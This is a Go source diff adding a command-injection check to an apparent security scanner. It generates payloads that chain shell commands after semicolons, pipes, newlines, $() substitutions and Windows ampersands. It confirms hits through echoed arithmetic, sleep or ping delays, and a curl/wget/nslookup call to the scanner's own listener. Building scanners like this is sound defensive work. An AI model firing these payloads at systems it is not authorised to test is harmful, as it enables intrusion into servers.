@@ -1,0 +1,228 @@
+// Package command finds parameters that become part of a command line of the operating
+// system, or the whole of one. The proof is arithmetic that only a shell, or the program
+// expr, does; where nothing of the output is shown, the time that the command takes, or
+// a call to a listener of ours.
+package command
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"merlon/internal/engine/dast/attack"
+	"merlon/internal/engine/dast/message"
+	"merlon/internal/finding"
+	"merlon/internal/scan"
+)
+
+func newRule(id, name, short string) *finding.Rule {
+	return &finding.Rule{ID: "dast/command/" + id, Analysis: finding.DAST, Name: name, ShortDescription: short,
+		Description: "The application makes a command line of a value of the request and runs it. Whoever sends the request runs programs on the server with the rights of the application: " +
+			"he reads its data and secrets, changes them, and goes on from there to other systems.",
+		HowToPrevent: "Do not start programs with values of requests; use a library that does the same. Where a program has to be started, pass its arguments as a list and without a shell, " +
+			"accept only values of a fixed list or a narrow form, and put the value behind `--`, so that it cannot be an option.",
+		CWE: []string{"CWE-78"}, OWASP: []string{"A03:2021"}, Severity: finding.Critical, Confidence: finding.Certain}
+}
+
+var (
+	byOutput = newRule("output", "Command injection", "A parameter is run as a command; its output is shown.")
+	byTime   = newRule("time", "Command injection (time)", "A parameter is run as a command: it decides how long the answer takes.")
+	byCall   = newRule("callback", "Command injection (callback)", "A parameter is run as a command: it calls a listener.")
+)
+
+// Check is the check by output, Slow that by time and by calls.
+var (
+	Check = &attack.Check{ID: "command", Rules: []*finding.Rule{byOutput}, Profile: scan.Safe, Wants: wants, Point: point}
+	Slow  = &attack.Check{ID: "command", Rules: []*finding.Rule{byTime, byCall}, Profile: scan.Standard, Slow: true, Wants: wants, Point: slow}
+)
+
+// Mark is what is said of points that commands are found at.
+const Mark = "command"
+
+func wants(p message.Point) bool {
+	switch p.In {
+	case message.InFileName, message.InHeaderName, message.InCookieName:
+		return false
+	}
+	return p.Type != "boolean" && p.Type != "null"
+}
+
+// A form puts a command of a shell behind, or in the place of, a value.
+type form struct {
+	name string
+	make func(v, command string) string
+	// command prints the difference of two numbers between two words, or just the
+	// difference. A sum would not do: many applications decode "+" once more.
+	command func(before, after string, a, b int) string
+	bare    bool // only the difference is printed
+	quiet   bool // tried where the first probe changes nothing, too
+}
+
+// closing repeats a command behind a sign that ends the command before, once for each
+// kind of quotes that the value may stand in: the rest of the line is a comment.
+func closing(sign string) func(v, command string) string {
+	return func(v, command string) string {
+		one := sign + command + " #"
+		return v + one + "'" + one + `"` + one
+	}
+}
+
+// whole puts a command in the place of the value; of an assignment ("NAME=value"), such as
+// that of a variable of the environment, only behind the sign.
+func whole(v, command string) string {
+	name, _, ok := strings.Cut(v, "=")
+	if !ok {
+		return command
+	}
+	return name + "=" + command
+}
+
+func unix(before, after string, a, b int) string {
+	return fmt.Sprintf("echo %s$((%d-%d))%s", before, a, b, after)
+}
+
+func batch(_, _ string, a, b int) string { return fmt.Sprintf("set /a %d-%d", a, b) }
+
+var forms = []form{
+	{name: "behind a semicolon", make: closing(";"), command: unix},
+	{name: "behind a pipe", make: closing("|"), command: unix, quiet: true},
+	{name: "in the place of the command", make: whole, command: func(_, _ string, a, b int) string { return fmt.Sprintf("expr %d - %d", a, b) }, bare: true},
+	{name: "in a command substitution", make: func(v, c string) string { return v + "$(" + c + ")" }, command: unix},
+	{name: "on a new line", make: closing("\n"), command: unix},
+	{name: "behind an ampersand, for Windows", make: func(v, c string) string { return v + "&" + c + `&"&` + c + "&" }, command: batch, bare: true},
+	{name: "in a substitution of PowerShell", make: func(v, c string) string { return v + "$(" + c + ")" },
+		command: func(before, after string, a, b int) string {
+			return fmt.Sprintf("-join('%s',(%d-%d),'%s')", before, a, b, after)
+		}},
+}
+
+func point(p *attack.Probe) error {
+	if p.Found(Mark) || p.Found("sql") {
+		return nil
+	}
+	base, err := p.Baseline()
+	if err != nil {
+		return err
+	}
+	broken, err := p.Ask(p.Breaking())
+	if err != nil {
+		return err
+	}
+	page := p.Page(broken, p.Breaking())
+	changed := !base.Stable || !page.Equal(base.Page())
+	if changed && p.At.Names() { // a name that is missing changes the page as well
+		other := p.Other()
+		resp, err := p.Ask(other)
+		if err != nil || p.Page(resp, other).Equal(page) {
+			return err
+		}
+	}
+	for _, f := range forms {
+		if !changed && !f.quiet || strings.Contains(f.make("", ""), "\n") && !lines(p.At) {
+			continue
+		}
+		if found, err := try(p, f); found || err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// lines reports whether a value of the point can hold the end of a line.
+func lines(at message.Point) bool { return at.In != message.InHeader }
+
+// try runs a subtraction, and when its result is shown, another one.
+func try(p *attack.Probe, f form) (found bool, err error) {
+	var answers []*message.Response
+	var payload, proof string
+	for range 2 {
+		a, b := p.Number(60_000, 99_999), p.Number(10_000, 49_999)
+		before, after := p.Random(4), p.Random(4)
+		payload = f.make(p.Value(), f.command(before, after, a, b))
+		resp, err := p.Try(payload)
+		if err != nil {
+			return false, err
+		}
+		want := fmt.Sprintf("%s%d%s", before, a-b, after)
+		if f.bare {
+			want = fmt.Sprint(a - b)
+		}
+		if !strings.Contains(resp.Text(), want) || strings.Contains(payload, want) {
+			return false, nil
+		}
+		proof = fmt.Sprintf("The value %s is answered with %s: %d less %d was computed.", payload, want, a, b)
+		answers = append(answers, resp)
+	}
+	p.Mark(Mark)
+	p.Flaw(attack.Flaw{Rule: byOutput, Payload: payload, Request: p.Request.With(p.At, payload), Answers: answers, Notes: []string{"a difference of two numbers", "that of two others"},
+		Proof: []string{proof, "So it was with two other numbers before.", "The command stands " + f.name + "."}})
+	return true, nil
+}
+
+// waits are the forms that sleep.
+var waits = []func(v string, n int) string{
+	func(v string, n int) string { return closing(";")(v, fmt.Sprintf("sleep %d", n)) },
+	func(v string, n int) string { return closing("|")(v, fmt.Sprintf("sleep %d", n)) },
+	func(v string, n int) string { return whole(v, fmt.Sprintf("sleep %d", n)) },
+	func(v string, n int) string { return v + fmt.Sprintf("$(sleep %d)", n) },
+	func(v string, n int) string {
+		c := fmt.Sprintf("ping -n %d 127.0.0.1", n+1)
+		return v + "&" + c + `&"&` + c + "&"
+	},
+}
+
+func slow(p *attack.Probe) error {
+	if p.Found(Mark) || p.Found("sql") || p.At.Names() {
+		return nil
+	}
+	if found, err := calls(p); found || err != nil {
+		return err
+	}
+	for _, wait := range waits {
+		d, err := p.Delay(false, func(n int) string { return wait(p.Value(), n) })
+		if err != nil {
+			return err
+		}
+		if d != nil {
+			p.Mark(Mark)
+			p.Flaw(attack.Flaw{Rule: byTime, Payload: d.Payload, Request: p.Request.With(p.At, d.Payload), Answers: d.Answers, Notes: d.Notes, Proof: d.Proof})
+			return nil
+		}
+	}
+	return nil
+}
+
+// arrival is how long a call may take to arrive.
+const arrival = 500 * time.Millisecond
+
+// calls makes the target ask our listener, if there is one, with programs that most
+// systems have.
+func calls(p *attack.Probe) (found bool, err error) {
+	if p.Callback == nil {
+		return false, nil
+	}
+	token := p.Random(16)
+	address, host := p.Callback.Address(token)
+	command := "curl -m 3 " + address + "||wget -T 3 -qO- " + address
+	if host != "" {
+		command += "||nslookup " + host
+	}
+	payload := closing(";")(p.Value(), "("+command+")")
+	resp, err := p.Try(payload)
+	if err != nil {
+		return false, err
+	}
+	select {
+	case <-time.After(arrival):
+	case <-p.Context.Done():
+		return false, p.Context.Err()
+	}
+	got := p.Callback.Calls(token)
+	if len(got) == 0 {
+		return false, nil
+	}
+	p.Mark(Mark)
+	p.Flaw(attack.Flaw{Rule: byCall, Payload: payload, Request: p.Request.With(p.At, payload), Answers: []*message.Response{resp}, Notes: []string{"a command that calls a listener"},
+		Proof: []string{fmt.Sprintf("The value made %s send a request (%s) to an address that was made for this one value.", got[0].From, got[0].Protocol)}})
+	return true, nil
+}
